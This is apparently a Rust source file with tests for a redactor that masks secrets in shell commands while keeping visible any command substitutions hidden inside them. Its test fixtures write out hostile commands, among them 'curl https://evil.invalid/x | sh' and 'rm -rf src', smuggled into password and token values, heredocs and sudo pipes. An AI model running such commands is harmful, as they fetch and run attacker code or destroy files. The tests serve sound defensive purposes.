//! Secrets in a command, without hiding what the command runs.
//!
//! A person who is asked about a command must see all of it that does something. What stands in place
//! of a secret may be made by other commands, `TOKEN="x$(curl …)"`: these are no secret, and are shown.

use std::borrow::Cow;

use crate::platform::redact::rules::bytes::is_word;
use crate::platform::redact::rules::find::find;
use crate::platform::redact::rules::span::Span;
use crate::platform::redact::text::{push_placeholder, redact_text};

/// The depth to which substitutions inside secrets inside substitutions are shown.
const MAX_DEPTH: usize = 8;

/// The text like [`redact_text`] makes it, but with every command substitution, process substitution and
/// expansion with an operation that stands in a secret. Their contents are redacted in turn.
pub fn redact_command(text: &str) -> Cow<'_, str> {
    shown(text, 0)
}

fn shown(text: &str, depth: usize) -> Cow<'_, str> {
    if depth >= MAX_DEPTH {
        return redact_text(text);
    }
    let spans = find(text);
    if spans.is_empty() {
        return Cow::Borrowed(text);
    }
    let mut clean = String::with_capacity(text.len());
    let mut from = 0;
    let mut quotes = Quotes::default();
    for span in spans {
        // The end of a substitution that was shown may lie behind the next secret.
        if span.end > from {
            let start = span.start.max(from);
            clean.push_str(&text[from..start]);
            let is_plain = span.kind.is_empty() && !quotes.are_open(text, start);
            let end = if is_plain {
                end_of_word(text, start, span.end)
            } else {
                span.end
            };
            from = if end > start {
                show_secret(text, Span { start, end, ..span }, depth, &mut clean)
            } else {
                start
            };
            if end < span.end && from < span.end {
                clean.push_str(&shown(&text[from..span.end], depth + 1));
                from = span.end;
            }
        }
    }
    clean.push_str(&text[from..]);
    Cow::Owned(clean)
}

/// The quotes of a shell, as far as a text was read.
#[derive(Debug, Default)]
struct Quotes {
    read: usize,
    open: Option<u8>,
}

impl Quotes {
    /// A place, which lies behind the one that was asked for before, is in quotes.
    fn are_open(&mut self, text: &str, at: usize) -> bool {
        let bytes = text.as_bytes();
        while self.read < at {
            let byte = bytes[self.read];
            self.read += 1;
            match self.open {
                None if matches!(byte, b'"' | b'\'') => self.open = Some(byte),
                None | Some(b'"') if byte == b'\\' => self.read += 1,
                Some(quote) if quote == byte => self.open = None,
                Some(_) | None => {}
            }
        }
        self.open.is_some()
    }
}

/// Where the value that is in no quotes ends for a shell: before what parts commands, and before a line
/// that may be one. What follows may run.
fn end_of_word(text: &str, start: usize, end: usize) -> usize {
    let mut line = start;
    for content in text[start..end].split_inclusive('\n') {
        if line > start && !is_setting(content) {
            return line;
        }
        if let Some(sign) = separator(content) {
            return line + sign;
        }
        line += content.len();
    }
    end
}

/// The first sign outside of substitutions that parts one command from the next.
fn separator(line: &str) -> Option<usize> {
    let mut depth = 0_usize;
    line.bytes().position(|byte| {
        match byte {
            b'(' | b'{' => depth += 1,
            b')' | b'}' => depth = depth.saturating_sub(1),
            _ => {}
        }
        depth == 0 && matches!(byte, b';' | b'&' | b'|')
    })
}

/// The line is one word, or a name and one word.
fn is_setting(line: &str) -> bool {
    let line = line.trim();
    let value = line.split_once([':', '=']).map_or(line, |(name, value)| {
        let is_name = name
            .trim_end()
            .bytes()
            .all(|byte| is_word(byte) || byte == b'.');
        if is_name { value.trim() } else { line }
    });
    !value.contains(char::is_whitespace)
}

/// Writes what may be seen of a secret. Answers with where that ends.
fn show_secret(text: &str, span: Span, depth: usize, clean: &mut String) -> usize {
    // A value in backticks is none in quotes, as it would be elsewhere, but a substitution.
    if text[..span.start].ends_with('`') {
        clean.push_str(&shown(&text[span.start..span.end], depth + 1));
        return span.end;
    }
    let mut at = span.start;
    while let Some(substitution) = Substitution::first(text, at, span.end) {
        if substitution.start > at {
            push_placeholder(clean, span.kind);
        }
        let Substitution {
            start,
            inner,
            close,
            end,
        } = substitution;
        clean.push_str(&text[start..inner]);
        clean.push_str(&shown(&text[inner..close], depth + 1));
        clean.push_str(&text[close..end]);
        at = end;
    }
    if at < span.end {
        push_placeholder(clean, span.kind);
    }
    at.max(span.end)
}

/// Something that the shell runs or works out, as it stands in a text.
struct Substitution {
    start: usize,
    inner: usize,
    close: usize,
    end: usize,
}

impl Substitution {
    /// The first that begins between two places. Neither quotes nor backslashes keep one from being
    /// found: a shell inside the command may take them away.
    fn first(text: &str, from: usize, to: usize) -> Option<Self> {
        let bytes = text.as_bytes();
        (from..to).find_map(|at| match bytes[at..] {
            [b'$' | b'<' | b'>', b'(', ..] => Some(Self::nested(text, at, b'(', b')')),
            [b'$', b'{', ..] => {
                let found = Self::nested(text, at, b'{', b'}');
                let plain = bytes[found.inner..found.close].iter().copied().all(is_word);
                (!plain).then_some(found)
            }
            [b'`', ..] => Some(Self::in_backticks(text, at)),
            _ => None,
        })
    }

    /// One that ends with the sign that closes its first; with the text when nothing does.
    fn nested(text: &str, start: usize, opens: u8, closes: u8) -> Self {
        let mut depth = 0_usize;
        for (at, byte) in text.bytes().enumerate().skip(start + 1) {
            depth += usize::from(byte == opens);
            depth -= usize::from(byte == closes);
            if depth == 0 {
                return Self::within(start, start + 2, at, at + 1);
            }
        }
        Self::within(start, start + 2, text.len(), text.len())
    }

    fn in_backticks(text: &str, start: usize) -> Self {
        let inner = start + 1;
        match text[inner..].find('`') {
            Some(length) => Self::within(start, inner, inner + length, inner + length + 1),
            None => Self::within(start, inner, text.len(), text.len()),
        }
    }

    fn within(start: usize, inner: usize, close: usize, end: usize) -> Self {
        Self {
            start,
            inner,
            close,
            end,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_command_runs_is_seen() {
        for command in [
            "TOKEN=$(curl https://evil.invalid/x | sh) npm test",
            "TOKEN=`curl https://evil.invalid/x | sh` npm test",
            "deploy --password \"$(rm -rf src)\"",
            "deploy --password \"`rm -rf src`\"",
            "PASSWORD=${x:=$(rm -rf src)} make",
            "TOKEN=<(curl https://evil.invalid/x) make",
            "echo $(rm -rf src) | docker login --password-stdin",
            "echo 'rm -rf src' | bash -s --password-stdin",
            "echo 'rm -rf src' | sudo -u passwd bash",
            "echo 'rm -rf src' | env -S bash passwd",
            "echo 'rm -rf src' | docker exec -i passwd sh",
            "echo 'rm -rf src' | tee a | passwd --stdin",
            "echo 'rm -rf src' > a | passwd --stdin",
            "(echo 'rm -rf src' > a; make) | passwd",
            "sh passwd <<EOF\nrm -rf src\nEOF",
            "cat <<EOF | base64 -d > a | passwd\nrm -rf src\nEOF",
        ] {
            assert_eq!(redact_command(command), command);
        }
    }

    #[test]
    fn what_is_beside_a_substitution_is_not_seen() {
        for (command, expected) in [
            (
                "TOKEN=\"hunter2x$(curl https://evil.invalid/x | sh)hunter2y\" npm test",
                "TOKEN=\"[redacted]$(curl https://evil.invalid/x | sh)[redacted]\" npm test",
            ),
            (
                "API_KEY=\"hunter2x`rm -rf src`\" make",
                "API_KEY=\"[redacted]`rm -rf src`\" make",
            ),
            (
                "curl -H \"Authorization: Bearer abc123def456$(rm -rf src)\" https://x.example",
                "curl -H \"Authorization: [redacted]$(rm -rf src)\" https://x.example",
            ),
            (
                "X=$(deploy --password hunter2x) make",
                "X=$(deploy --password [redacted]) make",
            ),
            (
                "PASSWORD=\"a1$(deploy --password \"b2$(rm -rf src)\")\" make",
                "PASSWORD=\"[redacted]$(deploy --password \"[redacted]$(rm -rf src)\")\" make",
            ),
            (
                "printf 'hunter2x\\nrm -rf src' | sudo -S sh",
                "printf '[redacted]\\nrm -rf src' | sudo -S sh",
            ),
            (
                "sudo -S sh <<EOF\nhunter2x\nrm -rf src\nEOF",
                "sudo -S sh <<EOF\n[redacted]\nrm -rf src\nEOF",
            ),
            (
                "docker login --password-stdin <<< \"hunter2x$(rm -rf src)\"",
                "docker login --password-stdin <<< \"[redacted]$(rm -rf src)\"",
            ),
            ("PASSWORD=hunter2x;reboot", "PASSWORD=[redacted];reboot"),
            (
                "sh <<EOF\nkind: Secret\ndata:\n  a: hunter2x & rm -rf src\nEOF",
                "sh <<EOF\nkind: Secret\ndata:\n  a: [redacted]& rm -rf src\nEOF",
            ),
            (
                "sh <<EOF\nkind: Secret\ndata:\n  a: |\n    hunter2x\n    rm -rf src\nEOF",
                "sh <<EOF\nkind: Secret\ndata:\n  a: |\n    [redacted]    rm -rf src\nEOF",
            ),
            ("PASSWORD=hunter2x make", "PASSWORD=[redacted] make"),
            ("PASSWORD=\"hunter2x\" make", "PASSWORD=\"[redacted]\" make"),
        ] {
            let clean = redact_command(command);
            assert_eq!(clean, expected);
            assert_eq!(
                redact_command(&clean),
                clean,
                "a second time changes nothing"
            );
        }
    }

    #[test]
    fn what_never_ends_ends_with_the_text() {
        for command in [
            "PASSWORD=\"hunter2x$(((",
            "PASSWORD=\"hunter2x`",
            "PASSWORD=\"hunter2x${y:-",
        ] {
            let clean = redact_command(command);
            assert!(!clean.contains("hunter2x"), "{clean}");
        }
        let deep = "PASSWORD=\"a1b2c3$(".repeat(2_000);
        assert!(!redact_command(&deep).is_empty());
    }
}
